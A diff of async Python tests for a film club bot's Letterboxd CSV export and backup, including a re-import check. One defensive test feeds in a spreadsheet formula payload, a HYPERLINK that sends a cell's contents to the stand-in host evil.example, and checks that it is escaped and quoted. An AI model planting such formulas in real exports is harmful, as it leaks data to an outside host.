@@ -146,9 +146,10 @@ async def test_the_export_is_an_ephemeral_csv_of_reviews_written_here(club: Club
     await run(club, "watched add", world.alice, film="woodstock")
     reply = await run(club, "letterboxd export", world.alice)
     assert reply.response_type == 4 and reply.ephemeral
-    assert "2 films ready for Letterboxd" in reply.text
+    assert "2 films you reviewed or marked as seen in the club, ready for Letterboxd" in reply.text
+    assert "What came from Letterboxd is left out, so nothing is logged twice there." in reply.text
     [(name, data)] = reply.files.items()
-    assert name.startswith("filmclub-letterboxd-") and name.endswith(".csv")
+    assert name.startswith("filmclub-for-letterboxd-") and name.endswith(".csv")
     rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
     assert rows[0] == ["Title", "Year", "Rating", "WatchedDate", "Review"]
     body = {row[0]: row for row in rows[1:]}
@@ -156,6 +157,39 @@ async def test_the_export_is_an_ephemeral_csv_of_reviews_written_here(club: Club
     assert body["Monterey Pop"][1:3] == ["1968", "4"]
     assert body["Monterey Pop"][4] == 'Otis, "live", and Hendrix, on fire.'
     assert body["Woodstock"][2] == "" and len(body["Woodstock"][3]) == 10
+
+
+async def test_the_backup_export_holds_what_came_from_letterboxd_too(club: Club) -> None:
+    alice = club.fake.world.alice
+    backup = await run(club, "letterboxd export", alice, what="everything")
+    assert backup.ephemeral
+    assert "A backup of all your 4 films" in backup.text
+    assert "Don't import it into Letterboxd" in backup.text
+    [(name, data)] = backup.files.items()
+    assert name.startswith("filmclub-backup-")
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert {(row["Title"], row["Source"]) for row in rows} == {
+        ("Monterey Pop", "club"),
+        ("Woodstock", "club"),
+        ("The Last Waltz", "letterboxd"),  # from the first test's import
+        ("Dont Look Back", "letterboxd"),
+    }
+    before = club.snapshot()
+    again = await run(club, "letterboxd import", alice, file=Upload(name, data))
+    assert "Read a filmclub export." in again.text and "Nothing new" in again.text
+    assert club.snapshot() == before
+
+
+async def test_exported_cells_never_run_as_spreadsheet_formulas(club: Club) -> None:
+    bob = club.fake.world.bob
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Trailer")'
+    form = await run(club, "review add", bob, film="gimme-shelter", rating=3)
+    await form.submit_modal({"review:rating": "6", "review:body": formula, "review:spoiler": "no"}, member=bob)
+    reply = await run(club, "letterboxd export", bob)
+    [data] = reply.files.values()
+    [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert row["Review"] == "'" + formula  # shown as text by Excel, LibreOffice and Google Sheets
+    assert data.decode("utf-8").splitlines()[1].startswith('"Gimme Shelter","1970",')  # every cell quoted
 
 
 async def test_the_real_letterboxd_export_imports(club: Club) -> None:
